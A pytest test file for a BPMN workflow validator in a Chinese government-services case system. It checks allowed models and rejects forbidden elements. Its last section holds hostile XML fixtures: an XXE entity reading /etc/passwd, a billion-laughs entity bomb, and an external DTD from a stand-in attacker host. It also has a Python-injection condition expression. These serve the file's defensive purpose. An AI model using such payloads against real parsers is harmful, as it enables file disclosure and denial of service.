# ruff: noqa: E501  (BPMN fixtures are long XML lines)
"""The government BPMN profile: defaults pass, forbidden elements are named, bad XML refused."""

from __future__ import annotations

import pytest
from django.utils import translation

from tongban.cases.engine.bundle import SINGLE_ITEM, bundle_model, single_item_model
from tongban.cases.engine.profile import CONNECTORS, analyse, check_bpmn, register_connector

HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" '
    'xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" '
    'xmlns:dc="http://www.omg.org/spec/DD/20100524/DC" '
    'xmlns:di="http://www.omg.org/spec/DD/20100524/DI" '
    'xmlns:camunda="http://camunda.org/schema/1.0/bpmn" '
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
    'id="Definitions_1" targetNamespace="http://bpmn.io/schema/bpmn">\n'
)


def props(**values: str) -> str:
    inner = "".join(f'<camunda:property name="{k}" value="{v}" />' for k, v in values.items())
    return f"<bpmn:extensionElements><camunda:properties>{inner}</camunda:properties></bpmn:extensionElements>"


def model(extra: str = "", process_extra: str = "") -> bytes:
    """start → 审查 (role reviewer) → end, plus ``extra`` elements inside the process."""
    return (
        HEAD + f'<bpmn:process id="Process_1" isExecutable="true" {process_extra}>'
        '<bpmn:startEvent id="Start_1" />'
        f'<bpmn:userTask id="Review_1" name="审查">{props(role="reviewer", department="SCJG")}</bpmn:userTask>'
        '<bpmn:endEvent id="End_1" />'
        '<bpmn:sequenceFlow id="F1" sourceRef="Start_1" targetRef="Review_1" />'
        '<bpmn:sequenceFlow id="F2" sourceRef="Review_1" targetRef="End_1" />'
        + extra
        + "</bpmn:process></bpmn:definitions>"
    ).encode()


CAMUNDA_MODELER_FILE = (
    HEAD.replace(
        'id="Definitions_1"',
        'id="Definitions_0x1" exporter="Camunda Modeler" exporterVersion="5.31.0"',
    )
    + """
  <bpmn:collaboration id="Collaboration_1">
    <bpmn:participant id="Participant_1" name="开办餐饮店" processRef="Process_restaurant" />
  </bpmn:collaboration>
  <bpmn:process id="Process_restaurant" name="开办餐饮店" isExecutable="true">
    <bpmn:laneSet id="LaneSet_1">
      <bpmn:lane id="Lane_window" name="ZWFW 政务服务中心">
        <bpmn:flowNodeRef>StartEvent_1</bpmn:flowNodeRef>
        <bpmn:flowNodeRef>Activity_accept</bpmn:flowNodeRef>
        <bpmn:flowNodeRef>Gateway_split</bpmn:flowNodeRef>
        <bpmn:flowNodeRef>Gateway_join</bpmn:flowNodeRef>
        <bpmn:flowNodeRef>Gateway_result</bpmn:flowNodeRef>
        <bpmn:flowNodeRef>Event_approved</bpmn:flowNodeRef>
        <bpmn:flowNodeRef>Event_rejected</bpmn:flowNodeRef>
      </bpmn:lane>
      <bpmn:lane id="Lane_market" name="SCJG 市场监管局">
        <bpmn:flowNodeRef>Activity_market</bpmn:flowNodeRef>
        <bpmn:flowNodeRef>Activity_supervise</bpmn:flowNodeRef>
        <bpmn:flowNodeRef>Event_supervised</bpmn:flowNodeRef>
        <bpmn:flowNodeRef>Event_overdue</bpmn:flowNodeRef>
      </bpmn:lane>
      <bpmn:lane id="Lane_fire" name="XF 消防救援支队">
        <bpmn:flowNodeRef>Activity_fire</bpmn:flowNodeRef>
      </bpmn:lane>
    </bpmn:laneSet>
    <bpmn:startEvent id="StartEvent_1" name="提交申请">
      <bpmn:outgoing>Flow_1</bpmn:outgoing>
    </bpmn:startEvent>
    <bpmn:userTask id="Activity_accept" name="综合受理" camunda:candidateGroups="window">
      <bpmn:extensionElements>
        <camunda:properties>
          <camunda:property name="role" value="clerk" />
          <camunda:property name="promised_days" value="1" />
        </camunda:properties>
      </bpmn:extensionElements>
      <bpmn:incoming>Flow_1</bpmn:incoming>
      <bpmn:outgoing>Flow_2</bpmn:outgoing>
    </bpmn:userTask>
    <bpmn:parallelGateway id="Gateway_split" name="并联">
      <bpmn:incoming>Flow_2</bpmn:incoming>
      <bpmn:outgoing>Flow_3</bpmn:outgoing>
      <bpmn:outgoing>Flow_4</bpmn:outgoing>
    </bpmn:parallelGateway>
    <bpmn:userTask id="Activity_market" name="食品经营许可审查" camunda:assignee="ignored">
      <bpmn:extensionElements>
        <camunda:properties>
          <camunda:property name="role" value="reviewer" />
          <camunda:property name="data_prefix" value="scjg" />
          <camunda:property name="promised_days" value="5" />
          <camunda:property name="statutory_days" value="20" />
        </camunda:properties>
      </bpmn:extensionElements>
      <bpmn:incoming>Flow_3</bpmn:incoming>
      <bpmn:outgoing>Flow_5</bpmn:outgoing>
    </bpmn:userTask>
    <bpmn:boundaryEvent id="Event_overdue" name="承诺时限到期" cancelActivity="false" attachedToRef="Activity_market">
      <bpmn:outgoing>Flow_9</bpmn:outgoing>
      <bpmn:timerEventDefinition id="TimerEventDefinition_1">
        <bpmn:timeDuration xsi:type="bpmn:tFormalExpression">P5D</bpmn:timeDuration>
      </bpmn:timerEventDefinition>
    </bpmn:boundaryEvent>
    <bpmn:userTask id="Activity_supervise" name="督办">
      <bpmn:extensionElements>
        <camunda:properties>
          <camunda:property name="role" value="supervisor" />
        </camunda:properties>
      </bpmn:extensionElements>
      <bpmn:incoming>Flow_9</bpmn:incoming>
      <bpmn:outgoing>Flow_10</bpmn:outgoing>
    </bpmn:userTask>
    <bpmn:endEvent id="Event_supervised" name="已督办">
      <bpmn:incoming>Flow_10</bpmn:incoming>
    </bpmn:endEvent>
    <bpmn:userTask id="Activity_fire" name="消防安全检查">
      <bpmn:extensionElements>
        <camunda:properties>
          <camunda:property name="role" value="inspector" />
          <camunda:property name="data_prefix" value="xf" />
        </camunda:properties>
      </bpmn:extensionElements>
      <bpmn:incoming>Flow_4</bpmn:incoming>
      <bpmn:outgoing>Flow_6</bpmn:outgoing>
    </bpmn:userTask>
    <bpmn:parallelGateway id="Gateway_join" name="汇总">
      <bpmn:incoming>Flow_5</bpmn:incoming>
      <bpmn:incoming>Flow_6</bpmn:incoming>
      <bpmn:outgoing>Flow_7</bpmn:outgoing>
    </bpmn:parallelGateway>
    <bpmn:exclusiveGateway id="Gateway_result" name="均通过?" default="Flow_rejected">
      <bpmn:incoming>Flow_7</bpmn:incoming>
      <bpmn:outgoing>Flow_approved</bpmn:outgoing>
      <bpmn:outgoing>Flow_rejected</bpmn:outgoing>
    </bpmn:exclusiveGateway>
    <bpmn:endEvent id="Event_approved" name="准予">
      <bpmn:incoming>Flow_approved</bpmn:incoming>
    </bpmn:endEvent>
    <bpmn:endEvent id="Event_rejected" name="不予">
      <bpmn:incoming>Flow_rejected</bpmn:incoming>
    </bpmn:endEvent>
    <bpmn:sequenceFlow id="Flow_1" sourceRef="StartEvent_1" targetRef="Activity_accept" />
    <bpmn:sequenceFlow id="Flow_2" sourceRef="Activity_accept" targetRef="Gateway_split" />
    <bpmn:sequenceFlow id="Flow_3" sourceRef="Gateway_split" targetRef="Activity_market" />
    <bpmn:sequenceFlow id="Flow_4" sourceRef="Gateway_split" targetRef="Activity_fire" />
    <bpmn:sequenceFlow id="Flow_5" sourceRef="Activity_market" targetRef="Gateway_join" />
    <bpmn:sequenceFlow id="Flow_6" sourceRef="Activity_fire" targetRef="Gateway_join" />
    <bpmn:sequenceFlow id="Flow_7" sourceRef="Gateway_join" targetRef="Gateway_result" />
    <bpmn:sequenceFlow id="Flow_9" sourceRef="Event_overdue" targetRef="Activity_supervise" />
    <bpmn:sequenceFlow id="Flow_10" sourceRef="Activity_supervise" targetRef="Event_supervised" />
    <bpmn:sequenceFlow id="Flow_approved" name="是" sourceRef="Gateway_result" targetRef="Event_approved">
      <bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">scjg_ok == True and xf_ok == True</bpmn:conditionExpression>
    </bpmn:sequenceFlow>
    <bpmn:sequenceFlow id="Flow_rejected" name="否" sourceRef="Gateway_result" targetRef="Event_rejected" />
  </bpmn:process>
  <bpmndi:BPMNDiagram id="BPMNDiagram_1">
    <bpmndi:BPMNPlane id="BPMNPlane_1" bpmnElement="Collaboration_1">
      <bpmndi:BPMNShape id="Participant_1_di" bpmnElement="Participant_1" isHorizontal="true">
        <dc:Bounds x="120" y="60" width="1000" height="450" />
      </bpmndi:BPMNShape>
      <bpmndi:BPMNShape id="StartEvent_1_di" bpmnElement="StartEvent_1">
        <dc:Bounds x="192" y="112" width="36" height="36" />
      </bpmndi:BPMNShape>
      <bpmndi:BPMNShape id="Activity_accept_di" bpmnElement="Activity_accept">
        <dc:Bounds x="280" y="90" width="100" height="80" />
      </bpmndi:BPMNShape>
      <bpmndi:BPMNEdge id="Flow_1_di" bpmnElement="Flow_1">
        <di:waypoint x="228" y="130" />
        <di:waypoint x="280" y="130" />
      </bpmndi:BPMNEdge>
    </bpmndi:BPMNPlane>
  </bpmndi:BPMNDiagram>
</bpmn:definitions>
"""
).encode()


def codes(xml: bytes) -> list[tuple[str, str]]:
    return [(p.code, p.element_id) for p in check_bpmn(xml)]


def test_default_single_item_passes():
    assert check_bpmn(SINGLE_ITEM.read_bytes()) == []
    assert check_bpmn(single_item_model("11442000MB2C9000XK", "SCJG")) == []


@pytest.mark.parametrize("size", [1, 2, 4])
def test_generated_bundle_passes(size):
    members = [(f"ITEM{i}", f"DEPT{i}") for i in range(size)]
    assert check_bpmn(bundle_model(members)) == []


def test_camunda_modeler_file_passes_and_reads_properties_and_lanes():
    analysis = analyse(CAMUNDA_MODELER_FILE)
    assert analysis.problems == []
    assert analysis.entry_process == "Process_restaurant"
    market = analysis.assignments["Activity_market"]
    assert (market.department, market.role, market.promised_days, market.statutory_days) == (
        "SCJG",
        "reviewer",
        5,
        20,
    )
    assert analysis.assignments["Activity_accept"].department == "ZWFW"
    assert analysis.assignments["Activity_fire"].lane == "XF 消防救援支队"


TIMER = '<bpmn:timerEventDefinition id="TD_{id}"><bpmn:{kind} xsi:type="bpmn:tFormalExpression">{value}</bpmn:{kind}></bpmn:timerEventDefinition>'

FORBIDDEN = [
    (
        '<bpmn:scriptTask id="Script_1" name="算分"><bpmn:script>x=1</bpmn:script></bpmn:scriptTask>',
        "script_task",
        "Script_1",
    ),
    ('<bpmn:serviceTask id="Service_1" name="调接口" />', "service_task", "Service_1"),
    (
        f'<bpmn:serviceTask id="Service_2">{props(connector="ecert")}</bpmn:serviceTask>',
        "service_connector",
        "Service_2",
    ),
    (
        '<bpmn:businessRuleTask id="Rule_1" camunda:decisionRef="d" />',
        "business_rule_task",
        "Rule_1",
    ),
    ('<bpmn:sendTask id="Send_1" />', "message", "Send_1"),
    ('<bpmn:receiveTask id="Receive_1" />', "message", "Receive_1"),
    (
        '<bpmn:intermediateCatchEvent id="Msg_1"><bpmn:messageEventDefinition id="MD_1" /></bpmn:intermediateCatchEvent>',
        "message",
        "Msg_1",
    ),
    (
        '<bpmn:intermediateCatchEvent id="Sig_1"><bpmn:signalEventDefinition id="SD_1" /></bpmn:intermediateCatchEvent>',
        "signal",
        "Sig_1",
    ),
    (
        '<bpmn:boundaryEvent id="Esc_1" attachedToRef="Review_1"><bpmn:escalationEventDefinition id="ED_1" /></bpmn:boundaryEvent>',
        "escalation",
        "Esc_1",
    ),
    (
        '<bpmn:intermediateThrowEvent id="Comp_1"><bpmn:compensateEventDefinition id="CD_1" /></bpmn:intermediateThrowEvent>',
        "compensation",
        "Comp_1",
    ),
    ('<bpmn:eventBasedGateway id="EvGw_1" />', "event_gateway", "EvGw_1"),
    ('<bpmn:complexGateway id="Cx_1" />', "complex_gateway", "Cx_1"),
    ('<bpmn:task id="Plain_1" />', "plain_task", "Plain_1"),
    (
        f'<bpmn:userTask id="Loop_1">{props(role="r")}<bpmn:standardLoopCharacteristics /></bpmn:userTask>',
        "loop",
        "Loop_1",
    ),
    (
        f'<bpmn:userTask id="Mi_1">{props(role="r")}<bpmn:multiInstanceLoopCharacteristics camunda:collection="${{list}}" /></bpmn:userTask>',
        "multi_instance",
        "Mi_1",
    ),
    (
        f'<bpmn:userTask id="Mi_2">{props(role="r")}<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>3</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics></bpmn:userTask>',
        "multi_instance",
        "Mi_2",
    ),
    (
        '<bpmn:boundaryEvent id="Timer_date" attachedToRef="Review_1">'
        + TIMER.format(id=1, kind="timeDate", value="2030-01-01T00:00")
        + "</bpmn:boundaryEvent>",
        "timer_kind",
        "Timer_date",
    ),
    (
        '<bpmn:boundaryEvent id="Timer_month" attachedToRef="Review_1">'
        + TIMER.format(id=2, kind="timeDuration", value="P1M")
        + "</bpmn:boundaryEvent>",
        "timer_duration",
        "Timer_month",
    ),
    (
        '<bpmn:boundaryEvent id="Timer_mixed" attachedToRef="Review_1">'
        + TIMER.format(id=3, kind="timeDuration", value="P1DT2H")
        + "</bpmn:boundaryEvent>",
        "timer_duration",
        "Timer_mixed",
    ),
    ('<bpmn:userTask id="Orphan_1" name="无人处理" />', "no_assignee", "Orphan_1"),
    (
        f'<bpmn:userTask id="Days_1">{props(role="r", promised_days="five")}</bpmn:userTask>',
        "bad_days",
        "Days_1",
    ),
    ('<bpmn:callActivity id="Call_1" calledElement="elsewhere" />', "call_target", "Call_1"),
    (
        '<bpmn:subProcess id="EvSub_1" triggeredByEvent="true"><bpmn:startEvent id="S9" /></bpmn:subProcess>',
        "event_subprocess",
        "EvSub_1",
    ),
    (
        '<bpmn:sequenceFlow id="Flow_juel" sourceRef="Review_1" targetRef="End_1"><bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${approved}</bpmn:conditionExpression></bpmn:sequenceFlow>',
        "juel",
        "Flow_juel",
    ),
    (
        '<bpmn:sequenceFlow id="Flow_py" sourceRef="Review_1" targetRef="End_1"><bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">__import__("os").getcwd()</bpmn:conditionExpression></bpmn:sequenceFlow>',
        "condition",
        "Flow_py",
    ),
    (
        '<bpmn:sequenceFlow id="Flow_feel" sourceRef="Review_1" targetRef="End_1"><bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">=approved</bpmn:conditionExpression></bpmn:sequenceFlow>',
        "juel",
        "Flow_feel",
    ),
]


@pytest.mark.parametrize(
    ("snippet", "code", "element_id"), FORBIDDEN, ids=[c[1] + "-" + c[2] for c in FORBIDDEN]
)
def test_forbidden_elements_are_refused_and_named(snippet, code, element_id):
    problems = check_bpmn(model(snippet))
    assert (code, element_id) in [(p.code, p.element_id) for p in problems], [
        str(p) for p in problems
    ]
    problem = next(p for p in problems if p.element_id == element_id)
    assert element_id in problem.message


def test_timer_start_event_is_refused():
    xml = model(
        '<bpmn:startEvent id="Start_timer">'
        + TIMER.format(id=4, kind="timeDuration", value="P1D")
        + "</bpmn:startEvent>"
    )
    assert ("start_event_kind", "Start_timer") in codes(xml)
    assert ("start_count", "Process_1") in codes(xml)


def test_registered_connector_is_allowed():
    register_connector("ecert_lookup", lambda data: {"ecert_found": True})
    try:
        snippet = (
            f'<bpmn:serviceTask id="Service_3">{props(connector="ecert_lookup")}</bpmn:serviceTask>'
        )
        assert "service_connector" not in [c for c, _ in codes(model(snippet))]
    finally:
        CONNECTORS.pop("ecert_lookup")


def _parallel(branch_b: str, flows_b: str) -> bytes:
    return model(
        process_extra="",
        extra=(
            '<bpmn:parallelGateway id="Split_1" name="并联" />'
            f'<bpmn:userTask id="A_1">{props(role="a")}</bpmn:userTask>'
            + branch_b
            + '<bpmn:parallelGateway id="Join_1" />'
            '<bpmn:endEvent id="End_2" />'
            '<bpmn:sequenceFlow id="P0" sourceRef="Start_1" targetRef="Split_1" />'
            '<bpmn:sequenceFlow id="P1" sourceRef="Split_1" targetRef="A_1" />'
            '<bpmn:sequenceFlow id="P3" sourceRef="A_1" targetRef="Join_1" />'
            + flows_b
            + '<bpmn:sequenceFlow id="P5" sourceRef="Join_1" targetRef="End_2" />'
        ),
    ).replace(b'<bpmn:sequenceFlow id="F1" sourceRef="Start_1" targetRef="Review_1" />', b"")


def test_parallel_split_without_join_is_refused():
    xml = _parallel(
        f'<bpmn:userTask id="B_1">{props(role="b")}</bpmn:userTask><bpmn:endEvent id="End_b" />',
        '<bpmn:sequenceFlow id="P2" sourceRef="Split_1" targetRef="B_1" />'
        '<bpmn:sequenceFlow id="P4" sourceRef="B_1" targetRef="End_b" />',
    )
    found = codes(xml)
    assert ("split_no_join", "Split_1") in found


def test_parallel_branch_ending_before_join_is_refused():
    xml = _parallel(
        f'<bpmn:userTask id="B_1">{props(role="b")}</bpmn:userTask>'
        '<bpmn:exclusiveGateway id="X_1" default="P6" /><bpmn:endEvent id="End_b" name="中途结束" />',
        '<bpmn:sequenceFlow id="P2" sourceRef="Split_1" targetRef="B_1" />'
        '<bpmn:sequenceFlow id="P4" sourceRef="B_1" targetRef="X_1" />'
        '<bpmn:sequenceFlow id="P6" sourceRef="X_1" targetRef="Join_1" />'
        '<bpmn:sequenceFlow id="P7" sourceRef="X_1" targetRef="End_b"><bpmn:conditionExpression>b_no</bpmn:conditionExpression></bpmn:sequenceFlow>',
    )
    problems = check_bpmn(xml)
    assert [(p.code, p.element_id) for p in problems] == [("branch_ends", "Split_1")]
    assert "中途结束" in problems[0].message


def test_matched_parallel_split_passes():
    xml = _parallel(
        f'<bpmn:userTask id="B_1">{props(role="b")}</bpmn:userTask>',
        '<bpmn:sequenceFlow id="P2" sourceRef="Split_1" targetRef="B_1" />'
        '<bpmn:sequenceFlow id="P4" sourceRef="B_1" targetRef="Join_1" />',
    )
    assert codes(xml) == []


def test_gateway_flow_without_condition_is_refused():
    xml = model(
        '<bpmn:exclusiveGateway id="X_2" /><bpmn:endEvent id="End_3" />'
        '<bpmn:sequenceFlow id="G1" sourceRef="X_2" targetRef="End_1" />'
        '<bpmn:sequenceFlow id="G2" sourceRef="X_2" targetRef="End_3"><bpmn:conditionExpression>ok</bpmn:conditionExpression></bpmn:sequenceFlow>'
    )
    assert ("missing_condition", "G1") in codes(xml)


# -- malicious and broken XML --------------------------------------------------------------

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d" targetNamespace="x">
  <bpmn:process id="p"><bpmn:userTask id="t" name="&xxe;" /></bpmn:process>
</bpmn:definitions>"""

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d" targetNamespace="x">
  <bpmn:process id="p"><bpmn:userTask id="t" name="&lol9;" /></bpmn:process>
</bpmn:definitions>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://attacker.invalid/evil.dtd">
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d" targetNamespace="x" />"""


@pytest.mark.parametrize(
    "xml", [XXE, LAUGHS, EXTERNAL_DTD], ids=["xxe", "billion-laughs", "external-dtd"]
)
def test_malicious_xml_is_refused(xml):
    problems = check_bpmn(xml)
    assert [p.code for p in problems] == ["xml_unsafe"]
    assert "root:" not in problems[0].message  # nothing from /etc/passwd leaked


def test_broken_and_foreign_xml():
    assert [p.code for p in check_bpmn(b"<bpmn:definitions")] == ["xml_malformed"]
    assert [p.code for p in check_bpmn(b"<html/>")] == ["not_bpmn"]
    assert [p.code for p in check_bpmn(b"x" * (3 * 1024 * 1024))] == ["xml_too_large"]
    assert "no_process" in [p.code for p in check_bpmn((HEAD + "</bpmn:definitions>").encode())]


def test_messages_in_chinese_and_english():
    problem = next(p for p in check_bpmn(model(FORBIDDEN[0][0])) if p.code == "script_task")
    with translation.override("en"):
        assert problem.message.startswith("scriptTask Script_1 «算分»: Script tasks")
    with translation.override("zh-hans"):
        assert problem.message.startswith("scriptTask Script_1 «算分»: ")
